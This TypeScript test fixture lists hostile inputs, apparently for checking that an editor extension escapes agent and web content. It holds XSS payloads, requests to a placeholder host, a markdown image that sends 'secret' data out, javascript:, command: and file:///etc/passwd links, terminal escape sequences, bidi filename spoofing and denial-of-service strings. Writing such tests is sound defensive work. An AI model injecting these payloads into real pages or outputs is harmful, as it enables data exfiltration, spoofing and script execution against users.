/** Text that an agent, a file or a web page may contain, and its effect if it were not escaped. */
export interface Payload {
  readonly name: string;
  /** `{HOST}`: a server that must not receive a request. */
  readonly text: string;
}

/** Variable that a payload's script sets if it runs. */
export const ran = 'hostileRan';
const script = `window.top.${ran}=window.${ran}=1`;

export const payloads: readonly Payload[] = [
  { name: 'script element', text: `<script>${script}</script><script src="http://{HOST}/s.js"></script>` },
  { name: 'image with a handler', text: `<img src=x onerror="${script}"><img src="http://{HOST}/i.png">` },
  { name: 'svg with a handler', text: `<svg onload="${script}"><use href="http://{HOST}/s.svg#a"/></svg>` },
  { name: 'frame', text: `<iframe src="http://{HOST}/f" srcdoc="<script>${script}</script>"></iframe>` },
  { name: 'object and embed', text: '<object data="http://{HOST}/o"></object><embed src="http://{HOST}/e">' },
  {
    name: 'media',
    text: '<video src="http://{HOST}/v" poster="http://{HOST}/p" autoplay></video><audio src="http://{HOST}/a">',
  },
  {
    name: 'style sheet',
    text: '<link rel=stylesheet href="http://{HOST}/c.css"><style>@import url(http://{HOST}/d.css);</style>',
  },
  {
    name: 'style attribute',
    text: '<b style="background:url(http://{HOST}/b.png);position:fixed;inset:0">over all</b>',
  },
  { name: 'refresh', text: '<meta http-equiv=refresh content="0;url=http://{HOST}/m"><base href="http://{HOST}/">' },
  {
    name: 'form',
    text: '<form action="http://{HOST}/form"><input autofocus onfocus="' + script + '"><button>ok</button></form>',
  },
  {
    name: 'hints',
    text: '<link rel=prefetch href="http://{HOST}/1"><link rel=dns-prefetch href="//{HOST}"><link rel=preconnect href="http://{HOST}">',
  },
  { name: 'way out of an attribute', text: `"><img src=x onerror="${script}"><a title='` },
  {
    name: 'way out of an element',
    text: `</pre></code></textarea></title></style></script><img src=x onerror=${script}>`,
  },
  {
    name: 'template and slot',
    text: `<template shadowrootmode=open><script>${script}</script></template>\${${script}}{{constructor.constructor('${script}')()}}`,
  },
  {
    name: 'mutation',
    text: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${script}&gt;">`,
  },
  {
    name: 'markdown image',
    text: '![chart](http://{HOST}/chart.png?data=secret) ![x]: http://{HOST}/r.png\n\n![x][r]\n\n[r]: http://{HOST}/ref.png',
  },
  {
    name: 'markdown link to a script',
    text: `[press](javascript:${script}) [press](data:text/html,<script>${script}</script>) <javascript:${script}>`,
  },
  {
    name: 'markdown link to a command',
    text: '[press](command:workbench.action.quit) [press](command:vitrine.deleteSession?%5B%22x%22%5D "title")',
  },
  {
    name: 'link to the editor',
    text: '[a](vscode://vitrine.vitrine/x) [b](vscode-insiders:x) [c](file:///etc/passwd) [d](blob:x) [e](//{HOST}/p)',
  },
  { name: 'links by themselves', text: 'http://{HOST}/auto <http://{HOST}/angle> www.{HOST}/www //{HOST}/proto' },
  {
    name: 'link that shows another',
    text: '[https://vitrine.example/safe](http://{HOST}/evil) [x](http://good.example@{HOST}/u)',
  },
  { name: 'icon', text: '$(trash) $(sync~spin) \\$(alert) $(x)onclick' },
  {
    name: 'terminal link and title',
    text: '\u001b]8;;http://{HOST}/osc8\u0007press\u001b]8;;\u0007\u001b]0;pwned\u0007\u001b]52;c;cHduZWQ=\u0007',
  },
  { name: 'terminal that erases', text: 'visible\u001b[2K\u001b[1A\u001b[8mhidden\u001b[0m\r\u0008\u0008over' },
  { name: 'direction', text: 'user\u202Egnp.exe\u202C \u2066rtl\u2069 \u200Fmark \u061C' },
  {
    name: 'unseen',
    text: 'zero\u200Bwidth\u200D\uFEFF soft\u00ADhyphen \u2028line\u2029paragraph \u{E0041}\u{E0042} \u3164filler \u0000\u0007\u001f\u0085',
  },
  {
    name: 'broken text',
    text: 'lone \uD800 and \uDC00, Z\u0351\u034B\u0350a\u0316\u0317l\u0319g\u035Co' + '\u0301'.repeat(400),
  },
  { name: 'very long', text: `${'W'.repeat(60_000)} ${'a/'.repeat(3000)} ${'(['.repeat(2000)}` },
  {
    name: 'patterns of no end',
    text: `${'*a_'.repeat(3000)}${'`'.repeat(999)}${'> '.repeat(500)}${'['.repeat(3000)}${'|'.repeat(2000)}\n${'-|'.repeat(1000)}`,
  },
  {
    name: 'prototype',
    text: '{"__proto__":{"innerHTML":"<img src=x onerror=' + script + '>"},"constructor":{"prototype":{"x":1}}}',
  },
];
